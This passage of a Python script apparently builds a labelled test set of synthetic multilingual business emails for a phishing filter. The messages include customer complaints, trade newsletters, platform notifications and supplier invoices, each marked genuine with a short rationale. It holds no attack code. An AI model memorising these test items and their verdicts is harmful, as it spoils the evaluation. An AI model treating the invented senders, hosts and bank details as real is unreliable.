    **E-Rechnung: Übergangsfrist endet für größere Unternehmen**
    Ab 1. Januar 2027 dürfen Unternehmen mit mehr als 800.000 Euro Vorjahresumsatz keine Papier- oder PDF-Rechnungen mehr ausstellen. Checkliste im Mitgliederbereich.

    **Webinar am 24.11.: Arbeitnehmerüberlassung und Werkvertrag sicher abgrenzen**
    [[Jetzt anmelden|https://www.personaldienstleister.de/veranstaltungen/webinar-abgrenzung-2026]]

    Sie erhalten diesen Newsletter, weil Sie ihn als Mitglied abonniert haben. [[!Abmelden|https://news.personaldienstleister.de/u/?e=anna.schneider%40example.com&l=gvp-mitglieder]]
    GVP e.V. · Universitätsstraße 2-3a · 10117 Berlin
    '''), html_opts=dict(font='Arial, sans-serif', button='#00557f'),
    rp='bounce-2611-48817-anna.schneider=example.com@news.personaldienstleister.de',
    extra=['List-Unsubscribe: <https://news.personaldienstleister.de/u/?e=anna.schneider%40example.com&l=gvp-mitglieder>',
           'List-Unsubscribe-Post: List-Unsubscribe=One-Click', 'Precedence: bulk', 'X-CSA-Complaints: csa-complaints@eco.de'],
    **I(bare('mta12.news.personaldienstleister.de', 'mta12.cleverreach.com', '217.13.77.12')),
    what='Subscribed industry-association newsletter (staffing sector) sent via an ESP with List-Unsubscribe',
    why='Solicited bulk mail from the association the HR lead subscribed to; bulk features are legitimate here')

msg(B, '06-de-kunde-beschwerde-kessler', 'de', 'iso-8859-1',
    ('Ralf Kessler', 'r.kessler@kessler-maschinenbau.de'), ['JU'],
    'Beschwerde: Frühschicht KW 46 - zwei Mitarbeiter nicht erschienen', '2026-11-12 07:18',
    T('''
    Guten Morgen Frau Wagner,

    ich muss mich leider schon wieder beschweren. Heute früh sind von den sechs angekündigten Mitarbeitern für die Frühschicht in der Montage nur vier erschienen. Niemand hat uns vorher informiert, wir haben es um 6 Uhr am Band gemerkt. Außerdem hatte der Kollege, der als Schweißer geplant war, keinen gültigen Schweißerpass dabei - den konnten wir so nicht einsetzen.

    Wir haben diese Woche eine Auslieferung an einen Kunden in Polen, die Linie muss laufen. So können wir nicht weiterarbeiten.

    Bitte rufen Sie mich heute bis 10 Uhr an und sagen Sie mir, wie Sie das ab morgen lösen. Die ausgefallenen Stunden werden wir in der Abrechnung für KW 46 natürlich nicht akzeptieren.

    Mit freundlichen Grüßen

    Ralf Kessler
    Produktionsleitung
    Kessler Maschinenbau GmbH
    Otto-Hahn-Straße 9, 63456 Hanau
    '''), ua='Mozilla Thunderbird', mid='tb', bstyle='tb', cte='quoted-printable',
    **I(postfix_host('mail.kessler-maschinenbau.de', '217.91.44.130', '192.168.20.57', 'pc-fert-57.kessler.local')),
    what='Genuine angry customer complaint (no-shows, missing welding certificate, invoice reduction)',
    why='Known customer domain and own mail server; negative tone and urgency are business as usual')

msg(B, '07-de-kollegin-privatadresse-krank', 'de', 'utf-8',
    ('Petra Schulz', 'petra.schulz78@gmx.de'), ['MH'],
    'Heute krank – Termine', '2026-11-23 06:42',
    T('''
    Guten Morgen Markus,

    ich habe seit heute Nacht Fieber und bleibe heute und wahrscheinlich morgen zu Hause. Mein Laptop steht im Büro, deshalb schreibe ich von meiner privaten Adresse.

    Für heute in deinem Kalender:
    – 10:00 Jour fixe mit Claudia (findet statt, Raum 3.12 ist gebucht)
    – 14:30 Telefonat Kessler – Herr Kessler hat um Verschiebung auf Mittwoch gebeten, bitte kurz bestätigen
    – die Hotelbuchung für Mailand am 2.12. ist erledigt, Bestätigung liegt im Outlook

    Die Krankmeldung schicke ich Anna, sobald ich beim Arzt war. Bei Fragen erreichst du mich auf dem Handy.

    Viele Grüße
    Petra

    Von meinem iPhone gesendet
    '''), cc=['AS'],
    **I(gmx(client='84.151.203.17', crdns='p5497cb11.dip0.t-ipconnect.de'), mailer='iPhone Mail (22B91)'),
    what='Colleague writing from her private GMX address: sick note and calendar handover, no request for money, credentials or data',
    why='Personal address matches name, residential IP, content is purely informational and verifiable')

msg(B, '08-de-elster-neue-nachricht', 'de', 'utf-8',
    ('Mein ELSTER', 'noreply@elster.de'), ['CB'],
    'Neue Nachricht in Ihrem Postfach bei Mein ELSTER', '2026-11-26 04:12',
    T('''
    Sehr geehrte Nutzerin, sehr geehrter Nutzer,

    in Ihrem Postfach bei Mein ELSTER ist eine neue Nachricht eingegangen.

    Aus Sicherheitsgründen enthält diese E-Mail weder einen Link noch Angaben zum Inhalt. Bitte melden Sie sich wie gewohnt unter www.elster.de mit Ihrer Zertifikatsdatei an, um die Nachricht abzurufen.

    Mit freundlichen Grüßen
    Ihr ELSTER-Team

    Diese E-Mail wurde automatisch erzeugt. Antworten an diese Adresse können nicht bearbeitet werden.
    '''), cte='quoted-printable',
    **I(bare('mail.elster.de', 'mx.elster.de', '193.109.238.53')),
    what='Genuine notification from the German tax portal ELSTER (no link, no content)',
    why='Official notification that deliberately contains no link; real sender domain')

# ============================== BUSINESS: English ===========================
NG_M365 = m365('mail-db8eur05on2088.outbound.protection.outlook.com', '40.107.20.88', 'DB9PR02MB7354', 'eurprd02')

msg(B, '09-en-northgate-urgent-peak-headcount', 'en', 'utf-8',
    ('Gareth Hughes', 'gareth.hughes@northgate-distribution.co.uk'), ['JF'],
    'URGENT: 25 extra pickers from Monday 23rd + PPE issue', '2026-11-16 08:12',
    T('''
    Morning James,

    Black Friday volumes are coming in 30% above forecast, so we need 25 extra pickers on nights (22:00-06:00) from Monday 23rd through to 4 January. Can you confirm by Wednesday how many you can cover? Same rate card as the October addendum.

    Separately, and I'm not happy about this: two of your workers turned up on Saturday without safety boots and hi-vis. Our shift manager had to send them home and we lost half a shift on bay 4. Please make sure the induction checklist is followed - if it happens again I'll have to escalate it to our H&S team.

    Give me a call when you're in.

    Thanks,
    Gareth

    Gareth Hughes
    Operations Manager | Northgate Distribution Ltd
    Unit 7, Westinghouse Road, Trafford Park, Manchester M17 1DY
    '''), tz=0,
    html=T('''
    Morning James,

    Black Friday volumes are coming in 30% above forecast, so we need **25 extra pickers on nights (22:00-06:00) from Monday 23rd** through to 4 January. Can you confirm by Wednesday how many you can cover? Same rate card as the October addendum.

    Separately, and I'm not happy about this: two of your workers turned up on Saturday without safety boots and hi-vis. Our shift manager had to send them home and we lost half a shift on bay 4. Please make sure the induction checklist is followed - if it happens again I'll have to escalate it to our H&S team.

    Give me a call when you're in.

    Thanks,
    Gareth

    Gareth Hughes
    Operations Manager | Northgate Distribution Ltd
    Unit 7, Westinghouse Road, Trafford Park, Manchester M17 1DY
    '''), extra=['Content-Language: en-GB', 'Importance: high'],
    **NG_M365,
    what='Genuine urgent customer order plus complaint (peak headcount, PPE)',
    why='Real customer domain and tenant; urgency concerns staffing, not money or credentials')

msg(B, '10-en-microsoft-entra-risky-user-alert', 'en', 'utf-8',
    ('Microsoft Entra ID Protection', 'MSSecurity-noreply@microsoft.com'), ['TB'],
    'Users at risk detected', '2026-11-18 03:44',
    T('''
    Users at risk detected

    We detected 1 user(s) at risk in your organization Example Group.

    User: julia.wagner@example.com
    Risk level: Medium
    Risk detection: Unfamiliar sign-in properties
    Detected: 11/18/2026 3:31:07 AM (UTC)

    To view the full report and take action, go to https://portal.azure.com/#view/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/~/RiskyUsers

    You are receiving this email because you are a Global Administrator or Security Administrator for this tenant.
    Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
    '''), tz=0,
    html=T('''
    **Users at risk detected**

    We detected 1 user(s) at risk in your organization Example Group.

    User: julia.wagner@example.com
    Risk level: **Medium**
    Risk detection: Unfamiliar sign-in properties
    Detected: 11/18/2026 3:31:07 AM (UTC)

    [[View users at risk|https://portal.azure.com/#view/Microsoft_AAD_IAM/IdentityProtectionMenuBlade/~/RiskyUsers]]

    You are receiving this email because you are a Global Administrator or Security Administrator for this tenant.
    Microsoft Corporation, One Microsoft Way, Redmond, WA 98052
    '''), html_opts=dict(font='Segoe UI, Arial, sans-serif', button='#0078d4'),
    **I(m365('mail-dbaeur03on2094.outbound.protection.outlook.com', '40.107.104.94', 'DB8P191MB0745', 'EURP191'), mid='outlook'),
    what='Genuine Microsoft Entra ID Protection alert to the IT admin about a risky user',
    why='Real microsoft.com sender from Microsoft outbound infrastructure; link to the real Azure portal; security notices must not be filtered')

msg(B, '11-en-github-password-reset', 'en', 'us-ascii',
    ('GitHub', 'noreply@github.com'), ['LF'],
    '[GitHub] Please reset your password', '2026-11-09 05:22',
    T('''
    We heard that you lost your GitHub password. Sorry about that!

    But don't worry! You can use the following button to reset your password:

    https://github.com/password_reset/4d3b8a1f0e7c92b65a1d8e40f3c7b2a91e6d05c4

    If you don't use this link within 3 hours, it will expire. To get a new password reset link, visit: https://github.com/password_reset

    Thanks,
    The GitHub Team
    '''), tz=-8, cte='7bit', rp='noreply@github.com',
    **I(bare('out-21.smtp.github.com', 'out-21.smtp.github.com', '192.30.252.204'),
        hops=['from github.com (hubbernetes-node-6f1a2b3.ac4-iad.github.net [10.52.118.44])\n\tby smtp.github.com (Postfix) with ESMTPA id {q}\n\tfor <{rcpt}>; {d}'],
        mid='default', middom='github.com'),
    what='Genuine GitHub password reset requested by the IT administrator',
    why='Correct sender and GitHub outbound servers; link points to github.com')

msg(B, '12-en-rec-newsletter', 'en', 'utf-8',
    ('REC', 'news@rec.uk.com'), ['JF'],
    'REC Weekly: umbrella company PAYE liability – what agencies must check before January', '2026-11-12 07:00',
    T('''
    REC Weekly | 12 November 2026

    **Umbrella companies: joint PAYE liability is now live**
    Since April 2026 the agency contracting with the end client is liable for PAYE and NICs if an umbrella company in the chain fails to pay. Our updated due-diligence checklist covers the questions to ask every umbrella on your PSL.

    **Employment Rights Act: day-one rights and agency workers**
    The next consultation closes on 15 January. Members can join our policy call on 3 December.

    **Jobs Outlook: permanent placements fall for the fourth month**
    Temporary billings rose slightly in October as retailers and logistics firms prepared for peak.

    [[Read this week's briefing|https://www.rec.uk.com/our-view/news/rec-weekly-12-november-2026]]

    You are receiving this because you are a member contact of the Recruitment & Employment Confederation. [[!Manage preferences|https://www.rec.uk.com/preferences?m=james.whitfield%40example.com]]
    '''), tz=0, html=T('''
    **REC Weekly | 12 November 2026**

    **Umbrella companies: joint PAYE liability is now live**
    Since April 2026 the agency contracting with the end client is liable for PAYE and NICs if an umbrella company in the chain fails to pay. Our updated due-diligence checklist covers the questions to ask every umbrella on your PSL.

    **Employment Rights Act: day-one rights and agency workers**
    The next consultation closes on 15 January. Members can join our policy call on 3 December.

    **Jobs Outlook: permanent placements fall for the fourth month**
    Temporary billings rose slightly in October as retailers and logistics firms prepared for peak.

    [[Read this week's briefing|https://www.rec.uk.com/our-view/news/rec-weekly-12-november-2026]]

    You are receiving this because you are a member contact of the Recruitment & Employment Confederation. [[!Manage preferences|https://www.rec.uk.com/preferences?m=james.whitfield%40example.com]]
    '''), html_opts=dict(font='Arial, sans-serif', button='#e4003b'),
    rp='bounce-mc.us21_48817265.2611-james.whitfield=example.com@mail136.atl41.mcdlv.net',
    extra=['List-Unsubscribe: <https://rec.us21.list-manage.com/unsubscribe?u=4f1c&id=9a2e&e=7b3c>',
           'List-Unsubscribe-Post: List-Unsubscribe=One-Click', 'Precedence: bulk', 'X-Mailer: MailChimp Mailer - **CID4f1c9a2e7b3c**'],
    **I(bare('mail136-12.atl41.mcdlv.net', 'mail136-12.atl41.mcdlv.net', '198.2.136.12')),
    what='Subscribed trade-body newsletter (UK Recruitment & Employment Confederation) via Mailchimp',
    why='Solicited newsletter; bulk sender but expected and relevant')

msg(B, '13-en-xero-invoice-minibus', 'en', 'utf-8',
    ('Pennine Minibus Hire Ltd', 'messaging-service@post.xero.com'), ['SC'],
    'Invoice INV-20461 from Pennine Minibus Hire Ltd for Example Group UK Ltd', '2026-11-30 16:05',
    T('''
    Hi Sarah,

    Here's invoice INV-20461 for £3,960.00 GBP.

    The amount outstanding of £3,960.00 GBP is due on 30 Dec 2026.

    View your bill online: https://in.xero.com/Yb7Qk3tZp2Lx9RmW4cNvE8aJ5uHs1DfG

    From your online bill you can print a PDF, export a CSV, or create a free login and view your outstanding bills.

    Worker shuttle Trafford Park, November 2026 (night shifts, 22 runs).
    Bank transfer: Pennine Minibus Hire Ltd, sort code 30-96-26, account 41873920 (as before).

    If you have any questions, please let us know.

    Thanks,
    Pennine Minibus Hire Ltd
    '''), tz=0, reply_to=('Pennine Minibus Hire Ltd', 'accounts@pennineminibus.co.uk'),
    rp='bounces+2211874-9f3a-sarah.collins=example.com@post.xero.com',
    atts=[('Invoice INV-20461.pdf', 'application/pdf', make_pdf([
        '# Pennine Minibus Hire Ltd - Tax Invoice INV-20461', 'Date: 30 Nov 2026  Due: 30 Dec 2026',
        'Worker shuttle Trafford Park - November 2026 - 22 runs', 'Subtotal 3,300.00  VAT 20% 660.00  Total GBP 3,960.00',
        'Sort code 30-96-26  Account 41873920', '', 'PLACEHOLDER - inert test document'], 'INV-20461'))],
    **I(bare('o2.post.xero.com', 'o2.post.xero.com', '167.89.66.135')),
    what='Genuine supplier invoice sent through Xero\'s mail service (From = post.xero.com, Reply-To = supplier), same bank details as before',
    why='Legitimate accounting-platform bulk infrastructure; known supplier, unchanged bank details')

msg(B, '14-en-cfo-year-end-close-internal', 'en', 'utf-8',
    'CB', ['MB', 'PW', 'JM', 'NG', 'SC', 'DV'],
    'Year-end close 2026 – timetable and payment freeze', '2026-11-19 17:10',
    T('''
    Dear all,

    please find below the timetable for the 2026 year-end close. The detailed checklist is in the Finance SharePoint (Finance > Closing > 2026).

    - 11 Dec: last supplier payment run in all entities (please submit proposals by 9 Dec)
    - 18 Dec: accruals for temp-worker hours not yet invoiced to clients
    - 8 Jan: local trial balances to HQ
    - 15 Jan: intercompany reconciliation signed off

    Important: from 1 December until the audit is finished, no changes to supplier bank details without the call-back check to a number from our master data (not from the e-mail). We had two attempts this month already (Lieferant and Partner Logistik look-alikes). If in doubt, call Sabine or me.

    Thanks for your support in this busy peak season.

    Best regards
    Claudia

    Claudia Berger
    Chief Financial Officer
    Example Group GmbH
    '''), cc=['JW', 'SK'],
    **I(internal('10.20.14.22')),
    extra=['Content-Language: en-US'],
    what='Internal CFO circular to all local accountants via the internal relay (deadlines, payment-freeze rule)',
    why='Internal relay, internal sender, policy content; mentions bank-detail changes but asks for verification')

msg(B, '15-en-docusign-genuine-northgate-contract', 'en', 'utf-8',
    ('Gareth Hughes via Docusign', 'dse@eumail.docusign.net'), ['JF'],
    'Complete with Docusign: Northgate – Temporary Labour Supply Agreement 2027', '2026-11-04 10:20',
    T('''
    Gareth Hughes sent you a document to review and sign.

    REVIEW DOCUMENT: https://eu.docusign.net/Signing/EmailStart.aspx?a=2c91e4d7-3b58-4f0a-8d16-7e25a9c4b103&etti=24&acct=5e7b13d9-0c42-4a86-b9f1-28d6e3a70c54&er=c3f8a2d1-6e49-4b7c-9051-d4a7e2b8f619

    Gareth Hughes
    gareth.hughes@northgate-distribution.co.uk

    Hi James, as agreed in last week's review meeting, here is the 2027 supply agreement with the new rate card and the updated PPE clause. Legal have approved our side. Thanks, Gareth

    Do Not Share This Email
    This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.
    '''), html=T('''
    **Gareth Hughes sent you a document to review and sign.**

    [[REVIEW DOCUMENT|https://eu.docusign.net/Signing/EmailStart.aspx?a=2c91e4d7-3b58-4f0a-8d16-7e25a9c4b103&etti=24&acct=5e7b13d9-0c42-4a86-b9f1-28d6e3a70c54&er=c3f8a2d1-6e49-4b7c-9051-d4a7e2b8f619]]

    **Gareth Hughes**
    gareth.hughes@northgate-distribution.co.uk

    Hi James, as agreed in last week's review meeting, here is the 2027 supply agreement with the new rate card and the updated PPE clause. Legal have approved our side. Thanks, Gareth

    **Do Not Share This Email**
    This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.
    '''), tz=-8, reply_to=('Gareth Hughes', 'gareth.hughes@northgate-distribution.co.uk'),
    rp='bounces+5e7b13@eumail.docusign.net',
    html_opts=dict(font='Helvetica, Arial, sans-serif', button='#ffc820',
                   head='<div style="background:#4c00ff;color:#fff;padding:20px;font-size:18px;margin-bottom:16px">Docusign</div>\n'),
    **I(bare('eumail1.docusign.net', 'eumail1.docusign.net', '185.81.101.94')),
    what='Genuine Docusign envelope from the real customer contact (Reply-To = real customer domain), expected contract',
    why='Same infrastructure as attack/15 but the sender identity matches the real customer and the document is expected')

msg(B, '16-en-it-passkey-rollout-internal', 'en', 'utf-8',
    'TB', [], 'Action required: register a passkey for your Microsoft 365 account by 30 November', '2026-11-09 09:00',
    T('''
    Dear colleagues,

    as announced at the management meeting in October, we are replacing SMS codes with phishing-resistant passkeys (Microsoft Authenticator) for all Microsoft 365 accounts. From 1 December, SMS sign-in will no longer be available.

    Please register your passkey before 30 November:
    1. Open https://aka.ms/mysecurityinfo while you are connected to the office network or VPN
    2. Choose "Add sign-in method" > "Passkey in Microsoft Authenticator"
    3. Follow the steps on your company phone

    A step-by-step guide with screenshots is on the intranet (IT > How-to > Passkeys). IT will never ask you for your password or a code by e-mail or phone. If you need help, open a ticket at helpdesk@example.com or call extension 4400.

    Thank you
    Thomas Becker
    Head of IT, Example Group
    '''), to_hdr='Example Group All Staff <all-staff@example.com>', rcpt='all-staff@example.com',
    **I(internal('10.20.14.40')),
    what='Genuine internal IT announcement with an authentication call to action (link to real aka.ms/mysecurityinfo) via internal relay',
    why='Internal relay, announced beforehand, points to the genuine Microsoft page and warns against credential requests')

# ============================== BUSINESS: Italian ===========================
FER_M365 = m365('mail-vi1eur04on2117.outbound.protection.outlook.com', '40.107.8.117', 'VI1PR04MB6921', 'eurprd04')

msg(B, '17-it-ferretti-richiesta-carrellisti-reclamo', 'it', 'iso-8859-15',
    ('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), ['FR'],
    'Richiesta 8 carrellisti aggiuntivi dal 16/11 + segnalazione assenze', '2026-11-09 08:44',
    T('''
    Buongiorno Francesca,

    per il picco di fine anno al polo di Piacenza ci servono 8 carrellisti aggiuntivi con patentino in corso di validità dal 16 novembre al 9 gennaio, turno 14-22, alle stesse condizioni del contratto quadro.

    Devo però segnalarti che la settimana scorsa due lavoratori in somministrazione non si sono presentati al turno di venerdì senza alcun preavviso e un terzo è arrivato senza scarpe antinfortunistiche. Capisci che in questo periodo non possiamo permetterci buchi sulle baie di carico: ti chiedo di verificare e di farmi sapere entro mercoledì chi potete garantire.

    Se serve ci sentiamo al telefono nel pomeriggio.

    Grazie, un saluto
    Chiara

    Chiara Colombo
    Responsabile Risorse Umane e Operations
    Ferretti Trasporti S.p.A. - Polo Logistico di Piacenza
    '''),
    extra=['Content-Language: it-IT'], **FER_M365,
    what='Genuine customer request for extra forklift drivers plus complaint about no-shows',
    why='Real customer, correct domain and Microsoft 365 tenant; business content without payment or credential requests')

msg(B, '18-it-ferretti-avviso-pagamento', 'it', 'utf-8',
    ('Ferretti Trasporti - Amministrazione', 'amministrazione@ferretti-trasporti.it'), ['MB'],
    'Avviso di pagamento - bonifico del 30/11/2026', '2026-11-30 15:10',
    T(f'''
    Spett.le Example Group Italia S.r.l.,

    Vi informiamo di aver disposto in data odierna il bonifico a saldo delle seguenti fatture:

    2026/IT/0874 del 30/09/2026 - € 41.208,40
    2026/IT/0912 del 15/10/2026 - € 36.115,90 (al netto della nota di credito concordata di € 1.240,00)

    Totale bonifico: € 76.084,30
    Beneficiario: Example Group Italia S.r.l. - IBAN {fmt_iban(EX_IT)}
    CRO/TRN: 0306909606250118412036115900IT

    In allegato la distinta. Cordiali saluti

    Ufficio Amministrazione
    Ferretti Trasporti S.p.A.
    Via dell'Industria 45 - 29122 Piacenza
    '''),
    atts=[('Distinta_bonifico_30-11-2026.pdf', 'application/pdf', make_pdf([
        '# Ferretti Trasporti S.p.A. - Distinta di bonifico', 'Data esecuzione: 30/11/2026',
        f'Beneficiario: Example Group Italia S.r.l. - IBAN {fmt_iban(EX_IT)}', 'Importo: EUR 76.084,30',
        'Causale: saldo fatture 2026/IT/0874, 2026/IT/0912', '', 'PLACEHOLDER - inert test document'], 'Distinta'))],
    **FER_M365,
    what='Genuine remittance advice from a customer\'s accounts department with PDF payment slip (paying our own IBAN)',
    why='Real customer domain and tenant; money flows to us, no action requested')

msg(B, '19-it-pulizie-sollecito-pagamento', 'it', 'iso-8859-1',
    ('Pulizie Lombarde S.r.l. - Amministrazione', 'amministrazione@pulizielombarde.it'), ['GR'],
    'Sollecito di pagamento - fatture n. 214/2026 e 237/2026', '2026-11-17 10:30',
    T(f'''
    Gentile Sig.ra Romano,

    da un controllo contabile risultano ancora aperte le seguenti fatture relative al servizio di pulizia degli uffici di Via Tortona:

    n. 214/2026 del 30/09/2026 - scadenza 31/10/2026 - euro 1.220,00
    n. 237/2026 del 31/10/2026 - scadenza 30/11/2026 - euro 1.220,00

    Vi chiediamo cortesemente di provvedere al saldo della fattura scaduta entro la fine del mese sul consueto conto:
    UniCredit S.p.A. - IBAN {fmt_iban(PUL_IT)}

    Se il pagamento è già stato effettuato, Vi preghiamo di considerare nulla la presente e di inviarci copia della contabile.

    Distinti saluti
    Ufficio Amministrazione
    Pulizie Lombarde S.r.l. - Via Gran Sasso 18, 20131 Milano
    '''), cc=['MB'],
    **I(bare('smtpcmd0871.aruba.it', 'smtpcmd0871.aruba.it', '62.149.156.71'),
        hops=['from pulizielombarde.it ([93.41.188.206])\n\tby Aruba Outgoing Smtp  with ESMTPSA\n\tid {q}; {d}'],
        mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine payment reminder from the office cleaning supplier with its usual IBAN',
    why='Known supplier on Aruba hosting, unchanged bank account, polite standard wording')

msg(B, '20-it-assolavoro-newsletter', 'it', 'utf-8',
    ('Assolavoro', 'newsletter@assolavoro.eu'), ['FR'],
    'Assolavoro News - novembre 2026: rinnovo CCNL, Osservatorio, Forma.Temp', '2026-11-20 12:00',
    T('''
    Assolavoro News - novembre 2026

    **Rinnovo CCNL Agenzie per il Lavoro: ripresa del confronto**
    Le parti sociali si incontreranno il 3 dicembre per proseguire il confronto sulla parte economica.

    **Osservatorio Assolavoro: 520 mila lavoratori in somministrazione a settembre**
    In crescita logistica e manifattura, stabile il settore dei servizi.

    **Forma.Temp: nuovi avvisi per la formazione dei lavoratori in somministrazione**
    Scadenza per la presentazione dei progetti: 31 gennaio 2027.

    [[Leggi la newsletter completa|https://www.assolavoro.eu/newsletter/novembre-2026]]

    Ricevi questa comunicazione in quanto associato. [[!Cancella iscrizione|https://news.assolavoro.eu/unsubscribe?u=francesca.ricci%40example.com]]
    '''), html=T('''
    **Assolavoro News - novembre 2026**

    **Rinnovo CCNL Agenzie per il Lavoro: ripresa del confronto**
    Le parti sociali si incontreranno il 3 dicembre per proseguire il confronto sulla parte economica.

    **Osservatorio Assolavoro: 520 mila lavoratori in somministrazione a settembre**
    In crescita logistica e manifattura, stabile il settore dei servizi.

    **Forma.Temp: nuovi avvisi per la formazione dei lavoratori in somministrazione**
    Scadenza per la presentazione dei progetti: 31 gennaio 2027.

    [[Leggi la newsletter completa|https://www.assolavoro.eu/newsletter/novembre-2026]]

    Ricevi questa comunicazione in quanto associato. [[!Cancella iscrizione|https://news.assolavoro.eu/unsubscribe?u=francesca.ricci%40example.com]]
    '''), hcte='base64', html_opts=dict(font='Verdana, sans-serif', button='#1d4f91'),
    rp='bounce-17-2611-francesca.ricci=example.com@news.assolavoro.eu',
    extra=['List-Unsubscribe: <https://news.assolavoro.eu/unsubscribe?u=francesca.ricci%40example.com>', 'Precedence: bulk'],
    **I(bare('mta-41.news.assolavoro.eu', 'mta-41.mailupnet.it', '89.96.238.41')),
    what='Subscribed Italian staffing-association newsletter via an Italian ESP',
    why='Solicited bulk mail relevant to the trade')

msg(B, '21-it-collega-libero-vpn', 'it', 'utf-8',
    ('Giulia Romano', 'giulia.romano83@libero.it'), ['MB'],
    'Oggi lavoro da casa - VPN non funziona', '2026-11-11 08:15',
    T('''
    Ciao Marco,

    ti scrivo dalla mia mail personale perché da casa la VPN non mi fa entrare (ho già aperto un ticket con l'IT di Francoforte dal telefono).

    Stamattina alle 10 arriva il tecnico per la stampante del secondo piano: ci pensi tu ad aprirgli? Il codice della portineria lo sa Paola.

    Lo scadenzario dei pagamenti lo guardiamo insieme domani in ufficio, non mandarmelo qui.

    Grazie mille
    Giulia
    '''), cte='8bit',
    **I(bare('smtp-17-i2.italiaonline.it', 'smtp-17-i2.italiaonline.it', '213.209.12.17'),
        hops=['from libero.it ([2.37.114.206])\n\tby smtp-17.iol.local with ESMTPA\n\tid {q}; {d}'],
        ua='Libero Mail', mid='default', middom='libero.it'),
    what='Colleague writing from her private Libero address about a VPN problem; explicitly refuses to receive business data there',
    why='Private address consistent with the person, residential IP, no requests for money/data/credentials')

# ============================== BUSINESS: Polish ============================
PLOG_HOST = dict(via=('cloudserver2047581.home.pl', 'cloudserver2047581.home.pl', '46.242.239.18'),
                 hops=['from [192.168.1.34] (host-89-229-104-12.dynamic.mm.pl [89.229.104.12])\n\tby cloudserver2047581.home.pl (Postfix) with ESMTPSA id {q};\n\t{d}'])

msg(B, '22-pl-partner-logistik-prawdziwa-zmiana-rachunku', 'pl', 'iso-8859-2',
    ('Partner Logistik - Księgowość', 'ksiegowosc@partner-logistik.pl'), ['PW'],
    'Zmiana rachunku bankowego od 01.01.2027 - Partner Logistik sp. z o.o.', '2026-12-01 09:20',
    T(f'''
    Szanowni Państwo,

    uprzejmie informujemy, że od 1 stycznia 2027 r. Partner Logistik sp. z o.o. (NIP {fmt_nip(PL_NIP_PLOG)}) zmienia bank prowadzący rachunek rozliczeniowy.

    Nowy rachunek (od 01.01.2027):
    mBank S.A.
    {pl_grp(PLOG_NEW)}

    Dotychczasowy rachunek w PKO BP ({pl_grp(PLOG_OLD)}) pozostaje aktywny do 31.12.2026 - płatności grudniowe prosimy regulować jak dotychczas.

    Nowy rachunek jest już widoczny w wykazie podatników VAT (biała lista) - można to sprawdzić na stronie podatki.gov.pl. W załączniku przesyłamy pismo podpisane przez Zarząd. Prosimy o telefoniczne potwierdzenie zmiany pod numerem podanym w umowie ramowej (nie z tej wiadomości) - pan Tadeusz Zieliński jest uprzedzony.

    Z poważaniem
    Ewa Majewska
    Główna Księgowa
    Partner Logistik sp. z o.o.
    '''), cc=['KN', ('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl')],
    atts=[('Pismo_zmiana_rachunku_2027.pdf', 'application/pdf', make_pdf([
        '# Partner Logistik sp. z o.o.', f'NIP {fmt_nip(PL_NIP_PLOG)}', 'Zmiana rachunku bankowego od 01.01.2027',
        f'Nowy: mBank S.A. {pl_grp(PLOG_NEW)}', f'Dotychczasowy (do 31.12.2026): PKO BP {pl_grp(PLOG_OLD)}', '',
        'Zarzad: Krzysztof Wrobel - Prezes Zarzadu', '', 'PLACEHOLDER - inert test document'], 'Zmiana rachunku'))],
    **I(PLOG_HOST, mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine bank-account change from the real subcontractor domain: new account already on the VAT white list, overlap period, signed letter, asks for phone verification',
    why='Real domain and home.pl hosting, verifiable via biała lista and known phone number; contrast to attack/22')

msg(B, '23-pl-partner-logistik-faktura-harmonogram', 'pl', 'windows-1250',
    ('Tadeusz Zieliński', 't.zielinski@partner-logistik.pl'), ['PW'],
    'Faktura FV/2026/11/214 i harmonogram przejazdów na grudzień', '2026-11-19 15:40',
    T(f'''
    Dzień dobry Panie Piotrze,

    w załączeniu przesyłam fakturę FV/2026/11/214 za transport pracowników na trasie Poznań – Frankfurt nad Menem (listopad, 6 kursów w obie strony, łącznie 18 400,00 zł brutto). Termin płatności zgodnie z umową: 25.11.2026, rachunek bez zmian ({pl_grp(PLOG_OLD)}).

    Harmonogram na grudzień:
    – 06.12 wyjazd 38 osób, zbiórka ul. Składowa 7, godz. 20:00
    – 20.12 powrót na święta (41 osób), przyjazd ok. 7:00
    – 03.01 wyjazd po świętach – liczba osób do potwierdzenia przez panią Agnieszkę do 15.12

    Proszę o informację, gdyby coś się zmieniło w listach pracowników.

    Pozdrawiam serdecznie
    Tadeusz Zieliński
    Kierownik ds. Transportu
    Partner Logistik sp. z o.o.
    ul. Składowa 7, 61-897 Poznań
    '''), cc=['KN'],
    atts=[('FV_2026_11_214.pdf', 'application/pdf', make_pdf([
        '# Partner Logistik sp. z o.o. - Faktura VAT FV/2026/11/214', 'Data wystawienia: 19.11.2026  Termin: 25.11.2026',
        'Transport pracownikow Poznan - Frankfurt, listopad 2026, 6 kursow', 'Netto 14 959,35 PLN  VAT 23% 3 440,65  Brutto 18 400,00 PLN',
        f'Rachunek: PKO BP {pl_grp(PLOG_OLD)}', '', 'PLACEHOLDER - inert test document'], 'FV/2026/11/214'))],
    **I(PLOG_HOST, mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Genuine subcontractor invoice plus worker transport schedule (windows-1250) with the unchanged account',
    why='Real contact on the real domain, expected monthly invoice')

msg(B, '24-pl-pracuj-ogloszenie-wygasa', 'pl', 'utf-8',
    ('Pracuj.pl', 'powiadomienia@pracuj.pl'), ['AK'],
    'Twoje ogłoszenie „Magazynier z uprawnieniami UDT – praca w Niemczech” wygasa za 3 dni', '2026-11-21 07:30',
    T('''
    Dzień dobry,

    ogłoszenie „Magazynier z uprawnieniami UDT – praca w Niemczech” (Poznań) wygasa 24.11.2026.

    Statystyki ogłoszenia:
    – wyświetlenia: 4 812
    – aplikacje: 47 (w tym 12 nowych od ostatniego logowania)

    [[Przedłuż ogłoszenie|https://www.pracuj.pl/pracodawcy/ogloszenia/1004418752/przedluz]]

    Pozdrawiamy
    Zespół Pracuj.pl
    '''), html=T('''
    Dzień dobry,

    ogłoszenie **„Magazynier z uprawnieniami UDT – praca w Niemczech”** (Poznań) wygasa 24.11.2026.

    Statystyki ogłoszenia:
